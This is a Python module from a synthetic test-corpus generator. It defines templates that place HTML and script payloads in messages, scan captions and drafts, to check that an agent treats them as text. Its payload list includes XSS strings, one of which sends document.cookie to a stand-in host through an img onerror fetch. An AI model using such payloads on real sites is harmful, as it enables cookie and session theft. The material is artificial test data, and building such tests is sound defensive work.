"""Templates of the html_content failure mode.

HTML and script payloads inside messages, scan captions and drafts; a stage treats them as text.
"""

from __future__ import annotations

from datetime import timedelta

from tools.gen_corpus.build import JSON, day
from tools.gen_corpus.filler import filler
from tools.gen_corpus.scene import Scene
from tools.gen_corpus.templates.base import A, C, D, E, FailureMode, P, Q, R, Template
from tools.gen_corpus.templates.common import message_sent, scan_item, sweep_variants
from tools.gen_corpus.wording import SERIES, TOPICS

HTML_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=\"fetch('http://203.0.113.9/?c='+document.cookie)\">",
    '<a href="javascript:alert(document.domain)">open</a>',
    "<iframe src=\"data:text/html,<script>parent.postMessage('x','*')</script>\"></iframe>",
    "<svg onload=\"alert('svg')\"></svg>",
)


def html_message(s: Scene) -> None:
    who, name = s.person()
    topic, key = s.pick(TOPICS)
    s.wake("heartbeat", "scheduled")
    sent = s.mins(600, 1500)
    rid = message_sent(s, sent, who, key)
    mid = s.message_from(
        sent + timedelta(minutes=s.rng.randint(20, 200)),
        who,
        f"Thanks! <b>Received</b> {topic}. {s.pick(HTML_PAYLOADS)}",
        unread=False,
    )
    filler(s, s.rng.randint(1, 3))
    s.question = f"Did {name} confirm receipt of the {key}?"
    s.decide(mid, rid)
    s.check("inbox_recheck", f"dm:{who}", redundant=True)
    s.duplicate("message.send", who, rid)
    s.reconcile(
        f"{name} confirmed receipt of {topic}.",
        "supported",
        [(f"{name} confirmed", True, [mid]), ("It was sent", True, [rid])],
    )
    s.preflight("read", ["inbox_recheck"])
    s.inquire(["Received"], [mid])
    s.draft(f"A journal line about {name}'s confirmation", [key])


def html_caption(s: Scene) -> None:
    series = s.pick(sorted(SERIES))
    order = SERIES[series]
    s.wake("task", f"sweep of {series} finished")
    good = s.rng.random() < 0.5
    refs: list[JSON] = []
    ids: list[str] = []
    for i, (vid, value) in enumerate(sweep_variants(series, 3, 0.05)):
        score = (
            round(s.rng.uniform(0.955, 0.99), 3)
            if good or i < 2
            else round(s.rng.uniform(0.6, 0.8), 3)
        )
        caption = s.pick(HTML_PAYLOADS) if i == 0 else ""
        ident, ref = scan_item(s, vid, order, score, "twist", value, s.mins(20, 90), caption)
        ids.append(ident)
        refs.append(ref)
    filler(s, s.rng.randint(1, 3))
    s.question = f"Do the {series} variants hold C{order} symmetry?"
    s.decide(ids[-1])
    s.check("symmetry_scan", series, redundant=False)
    s.analyze(
        refs,
        [f"C{order} rotational symmetry score"],
        "pass" if good else "fail",
        [] if good else [f"{series}-v03"],
    )
    s.execute(
        f"Render a contact sheet of the {series} variants",
        refs,
        [("scan", "analysis.symmetry_scan", "scores read")],
        [f"output/sweeps/{series}/contact-sheet.png"],
    )


def html_draft(s: Scene) -> None:
    series = s.pick(sorted(SERIES))
    opening = s.later(days=s.rng.randint(1, 3))
    s.wake("task", "announcement review")
    nid = s.note(
        "session", s.mins(30, 200), f"Gallery confirmed: {series} opens {day(opening)} at 18:00."
    )
    filler(s, s.rng.randint(2, 4))
    payload = s.pick(HTML_PAYLOADS)
    s.question = f"Is the announcement of the {series} opening ready for the host?"
    s.decide(nid)
    s.critique(
        [(f"{series} opens on {day(opening)} at 18:00.", True), (f"Details here: {payload}", True)],
        "announcement",
        "conditionally_ready",
    )
    s.draft(
        f"A plain-text version of the {series} announcement",
        [day(opening), "18:00"],
        [f"post.publish:gallery-{series}"],
    )
    s.reconcile(
        f"The gallery confirmed the {series} opening date.",
        "supported",
        [("The gallery confirmed it", True, [nid])],
    )


MODE = FailureMode(
    "html_content",
    "html",
    (
        Template(html_message, 5, ((R, P, D), (Q, D), (R, Q))),
        Template(html_caption, 5, ((A, E), (A,))),
        Template(html_draft, 4, ((C, D), (C, R))),
    ),
)
